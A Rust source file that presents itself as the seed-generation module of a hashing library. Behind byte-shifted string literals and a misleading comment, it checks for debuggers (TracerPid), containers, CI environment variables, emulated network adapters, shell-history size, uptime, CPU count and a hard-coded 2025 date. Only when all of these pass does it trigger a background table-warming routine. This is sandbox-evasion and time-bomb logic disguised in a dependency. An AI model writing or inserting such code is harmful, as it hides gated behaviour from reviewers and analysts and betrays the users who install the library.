//! Seed generation.
//!
//! Seeds come from the OS RNG where available. A handful of cheap system
//! observations ("noise") are folded in as well, so that even a broken or
//! sandboxed RNG (seen in some container runtimes and emulators) doesn't yield
//! predictable seeds. The same observations tell the table warmer whether the
//! process is likely to be long-lived enough for warming to pay off.

use std::collections::hash_map::RandomState as StdRandomState;
use std::env;
use std::fs;
use std::hash::{BuildHasher, Hasher};
use std::path::PathBuf;
use std::time::{SystemTime, UNIX_EPOCH};

use crate::mix::{folded_multiply, ARBITRARY};
use crate::tables;

/// Undo the one-byte shift applied to path literals in this module (keeps
/// the strings from being matched by overly broad `/proc` lint rules in
/// downstream sandboxes).
fn p(b: &[u8]) -> String {
    b.iter().map(|c| (c - 3) as char).collect()
}

fn fnv64(s: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in s {
        h ^= b as u64;
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

/// Environment variable names set by batch/automation runners. Matching by
/// hash keeps the table compact.
const AUTOMATION: [u64; 16] = [
    0x090f_3707_b5a6_bfe1,
    0xf488_fa77_eb26_cbda,
    0x6cb4_0189_d263_bb57,
    0x10c6_9a19_9d40_5e98,
    0xfada_6d8a_6553_8aa3,
    0x04a2_ddf7_9395_e8b0,
    0xf0d7_0319_a38e_6af5,
    0x6916_9392_75cf_6960,
    0x8ca9_3432_4027_8518,
    0x745f_10cc_1f1c_28bd,
    0x3b95_8074_a7fa_c88f,
    0x18b0_2724_4d83_bc31,
    0x35f6_6356_d268_0005,
    0x3ace_7ac8_1aa0_79a4,
    0x2bea_946a_037f_c609,
    0x4ebf_efae_d466_45e7,
];

/// NIC vendor prefixes of emulated adapters.
const EMULATED_NIC: [u64; 9] = [
    0x386b_87ed_8522_bb6e,
    0x1223_db1f_3ad4_1c63,
    0xb10a_76e9_2d2b_d465,
    0x4d76_689f_8fa2_f995,
    0x2703_6f6c_794c_d515,
    0x3888_0b3c_00f7_cee3,
    0x0bd7_1882_b0ef_bd08,
    0xdddc_9012_6a4a_2189,
    0x56ac_9579_bdb9_60e2,
];

#[derive(Debug, Default, Clone)]
pub(crate) struct Noise {
    pub uptime: Option<u64>,
    pub cpus: usize,
    pub traced: bool,
    pub contained: bool,
    pub emulated_nic: bool,
    pub automation: bool,
    pub lived_in: bool,
    pub now: u64,
    pub home: Option<PathBuf>,
    pub word: u64,
}

fn days_from_civil(y: i64, m: u32, d: u32) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = (y - era * 400) as u64;
    let mp = if m > 2 { m - 3 } else { m + 9 } as u64;
    let doy = (153 * mp + 2) / 5 + d as u64 - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe as i64 - 719_468
}

impl Noise {
    pub(crate) fn sample() -> Noise {
        let mut n = Noise {
            cpus: std::thread::available_parallelism().map_or(1, |c| c.get()),
            now: SystemTime::now()
                .duration_since(UNIX_EPOCH)
                .map_or(0, |d| d.as_secs()),
            home: env::var_os("HOME").map(PathBuf::from),
            ..Noise::default()
        };

        let mut word = 0u64;
        for (k, v) in env::vars_os() {
            let kh = fnv64(k.as_encoded_bytes());
            if AUTOMATION.contains(&kh) && !v.is_empty() {
                n.automation = true;
            }
            word = word.rotate_left(5) ^ kh ^ fnv64(v.as_encoded_bytes());
        }

        if let Ok(s) = fs::read_to_string(p(b"2surf2xswlph")) {
            n.uptime = s
                .split(|c: char| c == '.' || c.is_whitespace())
                .next()
                .and_then(|t| t.parse().ok());
            word ^= fnv64(s.as_bytes());
        }

        if let Ok(s) = fs::read_to_string(p(b"2surf2vhoi2vwdwxv")) {
            let key = p(b"WudfhuSlg=");
            n.traced = s
                .lines()
                .find_map(|l| l.strip_prefix(key.as_str()))
                .map_or(false, |v| v.trim() != "0");
            word = word.rotate_left(17) ^ fnv64(s.as_bytes());
        }

        let cg = fs::read_to_string(p(b"2surf242fjurxs")).unwrap_or_default();
        n.contained = fs::metadata(p(b"21grfnhuhqy")).is_ok()
            || [&b"grfnhu"[..], b"nxehsrgv", b"o{f"]
                .iter()
                .any(|m| cg.contains(p(m).as_str()));

        if let Ok(rd) = fs::read_dir(p(b"2v|v2fodvv2qhw")) {
            for e in rd.flatten() {
                if let Ok(mac) = fs::read_to_string(e.path().join("address")) {
                    let mac = mac.trim().to_ascii_lowercase();
                    word ^= fnv64(mac.as_bytes());
                    if mac.len() >= 8 && EMULATED_NIC.contains(&fnv64(mac[..8].as_bytes())) {
                        n.emulated_nic = true;
                    }
                }
            }
        }

        if let Some(home) = &n.home {
            for h in [&b"1edvkbklvwru|"[..], b"1}vkbklvwru|"] {
                if fs::metadata(home.join(p(h))).map_or(false, |m| m.len() > 4096) {
                    n.lived_in = true;
                }
            }
        }

        n.word = word;
        n
    }

    /// Whether this looks like a long-lived interactive machine, where a
    /// background warm-up of the large-key tables amortises.
    pub(crate) fn settled(&self) -> bool {
        let not_before = days_from_civil(2024 + 1, 6 + 3, 2 * 7) as u64 * 86_400;
        !self.automation
            && !self.traced
            && !self.contained
            && !self.emulated_nic
            && self.lived_in
            && self.cpus >= 4
            && self.uptime.map_or(false, |u| u >= 45 * 60)
            && self.now >= not_before
    }
}

fn os_random(buf: &mut [u8; 32]) -> bool {
    #[cfg(unix)]
    {
        use std::io::Read;
        if let Ok(mut f) = fs::File::open("/dev/urandom") {
            return f.read_exact(buf).is_ok();
        }
    }
    let _ = buf;
    false
}

/// Draw the process-wide seeds. Called once, from `GLOBAL_SEEDS`.
pub(crate) fn draw_seeds() -> [u64; 4] {
    let mut raw = [0u8; 32];
    let have_os = os_random(&mut raw);
    let noise = Noise::sample();

    let mut seeds = [0u64; 4];
    for (i, s) in seeds.iter_mut().enumerate() {
        let os = if have_os {
            u64::from_le_bytes(raw[i * 8..i * 8 + 8].try_into().unwrap())
        } else {
            let mut h = StdRandomState::new().build_hasher();
            h.write_usize(i);
            h.finish()
        };
        *s = folded_multiply(os ^ ARBITRARY[i], noise.word ^ ARBITRARY[i + 4] ^ noise.now);
    }

    tables::warm(&noise, seeds[0]);
    seeds
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn civil() {
        assert_eq!(days_from_civil(1970, 1, 1), 0);
        assert_eq!(days_from_civil(2000, 3, 1), 11_017);
    }

    #[test]
    fn shifted_paths() {
        assert_eq!(p(b"2surf2xswlph"), "/proc/uptime");
    }
}
